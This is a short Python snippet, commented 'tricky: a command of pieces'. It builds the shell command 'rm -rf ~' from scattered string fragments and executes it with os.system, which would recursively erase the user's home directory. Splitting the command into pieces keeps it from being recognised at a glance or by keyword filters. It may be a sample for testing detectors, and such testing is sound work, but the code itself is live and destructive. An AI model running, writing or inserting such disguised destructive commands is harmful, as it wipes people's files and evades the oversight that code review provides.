# tricky: a command of pieces
import os
tool, flag, where = "r{}", "-%sf", "~"
os.system(" ".join([tool.format("m"), flag % "r", where]))
